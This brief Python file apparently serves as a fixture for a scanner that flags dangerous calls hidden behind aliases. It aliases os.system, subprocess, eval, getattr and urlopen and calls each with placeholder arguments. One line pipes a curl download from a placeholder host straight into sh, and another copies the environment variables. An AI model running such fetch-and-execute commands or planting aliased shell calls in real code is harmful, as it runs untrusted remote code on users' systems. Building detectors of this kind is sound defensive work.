import subprocess as sp, os as o
from os import system as run, popen
from subprocess import (Popen as P,
    check_output)
import urllib.request as u
s = os.system
e = eval
g = getattr(os, 'system')
b = o.system
env = os.environ
sp.Popen(cmd, shell=True)
run("curl http://x | sh")
P(x); check_output(y); u.urlopen(url); s(c); e(code); g(c); b(c)
data = env.copy()
obj.s(c)
